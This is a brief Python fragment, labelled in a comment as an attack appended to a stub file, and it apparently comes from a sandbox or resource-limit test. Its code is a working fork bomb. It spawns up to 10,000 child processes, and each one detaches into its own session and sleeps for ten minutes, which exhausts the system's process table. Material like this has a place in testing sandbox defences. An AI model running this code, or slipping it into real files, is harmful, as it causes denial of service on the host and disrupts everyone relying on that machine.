

# --- the attack, appended to the stub --------------------------------------

import os as _os
import time as _time

for _ in range(10000):
    try:
        if _os.fork() == 0:
            _os.setsid()
            _time.sleep(600)
            _os._exit(0)
    except OSError:
        break
